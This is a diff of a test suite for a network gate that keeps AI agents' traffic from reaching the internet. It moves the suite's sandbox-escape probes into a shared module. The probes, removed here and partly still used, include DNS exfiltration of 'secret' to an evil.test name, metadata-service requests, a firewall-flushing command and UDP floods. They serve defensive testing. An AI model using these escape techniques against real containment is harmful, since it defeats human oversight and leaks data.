@@ -14,12 +14,11 @@ from pathlib import Path
 
 import pytest
 
-from netlab import Gate, Lab, needs_lab
+from netlab import ASK, FLOOD, FOREIGN, GET, ROWS, Gate, Lab, needs_lab, packets_after_rules, refund
 
 pytestmark = [pytest.mark.slow, needs_lab]
 
 LISTEN = "{explicit: 127.0.0.1:18080, transparent: 0.0.0.0:18443, dns: 0.0.0.0:15353}"
-FOREIGN = {"4": "203.0.113.9", "6": "2001:db8:9::9"}
 
 
 @pytest.fixture(scope="module")
@@ -124,27 +123,6 @@ def test_nw3_down_cuts_off_and_only_open_opens(lab: Lab, up: Gate) -> None:
 
 # --- the matrix ---
 
-TCP_PORTS = (1, 22, 25, 53, 80, 443, 853, 3306, 5353, 8080, 8443, 9090, 18080, 18443, 65535)
-ROWS = {
-    "broadcast": "udp('10.77.1.255', 9, wait=.2), udp('255.255.255.255', 9, wait=.2)",
-    "multicast": "udp('239.255.255.250', 1900, wait=.2), udp('ff02::1%a0', 9, wait=.2)",
-    "fragments": "udp('203.0.113.9', 9, b'x' * 20000, wait=.2)",
-    "metadata service": "tcp('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\n\\r\\n')",
-    "DNS to a resolver of the agent's": "udp('203.0.113.53', 53, question('c2VjcmV0.evil.test'))",
-    "DNS over TLS": "tcp('203.0.113.53', 853, bytes.fromhex('16030100050100000100'))",
-    "UDP to the gate itself": "[udp('10.77.1.1', p, wait=.1) for p in (15353, 5353, 67, 9)]",
-    "the gate's other network": "udp('10.77.2.2', 9, wait=.1), tcp('10.77.2.2', 22)",
-    "root where it is": "os.system('nft flush ruleset'), udp('203.0.113.9', 9, wait=.1)",
-}
-for version, host in FOREIGN.items():
-    ping = 1 if version == "4" else 58
-    ROWS |= {
-        f"TCP, IPv{version}": f"[tcp('{host}', p) for p in {TCP_PORTS}]",
-        f"UDP, IPv{version}": f"[udp('{host}', p, wait=.1) for p in (9, 123, 853, 4500, 51820)]",
-        f"ping, IPv{version}": f"raw('{host}', {ping}, b'\\x08\\0\\0\\0secret')",
-        f"other protocols, IPv{version}": f"[raw('{host}', p, b'x' * 24) for p in (41, 47, 50, 132, 253)]",
-    }
-
 
 @pytest.mark.parametrize("row", ROWS)
 def test_no_packet_of_an_agent_arrives_in_the_internet(lab: Lab, up: Gate, row: str) -> None:
@@ -166,9 +144,6 @@ def test_quic_is_refused_at_once(lab: Lab, up: Gate, host: str) -> None:
     assert lab.agent(script, host) == "ConnectionRefusedError True"
 
 
-GET = "print(tcp(sys.argv[1], int(sys.argv[2]), b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))"
-
-
 def test_the_gates_own_ports_are_not_there_for_agents(lab: Lab, up: Gate) -> None:
     """The admin API least of all: whatever the port, the answer is the transparent listener's, or none."""
     admin = up.tell("admin")[0].rpartition(":")[2]
@@ -178,9 +153,6 @@ def test_the_gates_own_ports_are_not_there_for_agents(lab: Lab, up: Gate) -> Non
             assert said.startswith(("answered b'HTTP/1.1 4", "Connection", "TimeoutError")), (port, said)
 
 
-ASK = "print(sorted({row[4][0] for row in socket.getaddrinfo(sys.argv[1], 443)}))"
-
-
 def test_the_stub_answers_mapped_names_only(lab: Lab, up: Gate) -> None:
     before = lab.escaped()
     for name in ("api.stripe.com", "bucket.s3.eu-west-1.amazonaws.com"):
@@ -188,11 +160,6 @@ def test_the_stub_answers_mapped_names_only(lab: Lab, up: Gate) -> None:
     assert "not known" in lab.agent(ASK, "c2VjcmV0.evil.test", check=False)
     assert lab.escaped() == before
     assert "unknown_destination" in up.holdgate("receipts", "list", "--json").stdout
-
-
-def refund(gate: Gate, amount: int, *more: str) -> list[str]:
-    form = ["-d", f"payment_intent={gate.intent}", "-d", f"amount={amount}"]
-    return ["https://api.stripe.com/v1/refunds", "-H", "Authorization: Bearer sk_test_demo", *form, *more]
 
 
 @pytest.mark.parametrize("version", ["-4", "-6"])
@@ -210,59 +177,7 @@ def test_a_client_without_any_setting_is_held_and_served(lab: Lab, up: Gate, ver
 
 
 def test_a_connection_from_before_the_rules_is_cut_by_them(lab: Lab, gate: Gate) -> None:
-    gate.network("down", "--open")
-    server = subprocess.Popen(
-        ["ip", "netns", "exec", lab.internet_ns, "python3", "-c",
-         "import socket; socket.setdefaulttimeout(10)\n"
-         "s = socket.create_server(('0.0.0.0', 7777)); print('up', flush=True)\n"
-         "c, _ = s.accept()\nwhile c.recv(99): print('got', flush=True)"],
-        stdout=subprocess.PIPE, text=True,
-    )  # fmt: skip
-    assert server.stdout is not None and server.stdout.readline() == "up\n"
-    agent = subprocess.Popen(
-        ["ip", "netns", "exec", lab.agent_ns, "python3", "-c",
-         "import socket, sys; socket.setdefaulttimeout(10)\n"
-         "s = socket.create_connection(('10.77.2.2', 7777))\n"
-         "for line in sys.stdin: s.send(line.encode())"],
-        stdin=subprocess.PIPE, text=True,
-    )  # fmt: skip
-    try:
-        assert agent.stdin is not None
-        agent.stdin.write("before\n")
-        agent.stdin.flush()
-        assert server.stdout.readline() == "got\n"
-        gate.network("up")
-        before = lab.escaped()
-        agent.stdin.write("after\n")
-        agent.stdin.flush()
-        agent.communicate(timeout=20)
-        assert lab.escaped() == before
-    finally:
-        server.kill()
-        agent.kill()
-        server.wait()
-        agent.wait()
-        gate.network("up")
-
-
-FLOOD = """
-end = time.monotonic() + float(sys.argv[1])
-sent = 0
-six, four = (socket.socket(f, socket.SOCK_DGRAM) for f in (socket.AF_INET6, socket.AF_INET))
-while time.monotonic() < end:
-    for sock, host in ((four, "203.0.113.9"), (six, "2001:db8:9::9")):
-        for port in (9, 443, 853):
-            try:
-                sock.sendto(b"secret", (host, port))
-            except OSError:
-                pass
-            sent += 1
-    tcp = socket.socket()
-    tcp.setblocking(False)
-    tcp.connect_ex(("203.0.113.9", 22))
-    tcp.close()
-print(sent)
-"""
+    assert packets_after_rules(lab, gate) == 0
 
 
 def test_no_packet_slips_through_while_rules_are_replaced(lab: Lab, up: Gate, tmp_path: Path) -> None:
@@ -271,15 +186,19 @@ def test_no_packet_slips_through_while_rules_are_replaced(lab: Lab, up: Gate, tm
     script.write_text(up.network("print"))
     before = lab.escaped()
     sent: list[str] = []
-    flood = threading.Thread(target=lambda: sent.append(lab.agent(FLOOD, "4")))
+    enough = tmp_path / "enough"
+    flood = threading.Thread(target=lambda: sent.append(lab.agent(FLOOD, str(enough))))
     flood.start()
-    reloads = 0
-    while flood.is_alive():
-        lab.run(up.netns, "sh", "-c", f"for i in 1 2 3 4 5 6 7 8; do nft -f {script}; done")
-        reloads += 8
-    flood.join()
+    try:
+        while flood.is_alive() and not enough.with_name("enough.begun").exists():
+            lab.run(up.netns, "nft", "-f", str(script))
+        for _ in range(2):
+            lab.run(up.netns, "sh", "-c", f"for i in $(seq 32); do nft -f {script}; done")
+    finally:
+        enough.touch()
+        flood.join()
     assert lab.escaped() == before
-    assert int(sent[0]) > 1000 and reloads > 30, (sent, reloads)
+    assert int(sent[0]) > 1000
 
 
 def test_a_gate_that_was_killed_leaves_agents_without_network(lab: Lab, up: Gate) -> None:
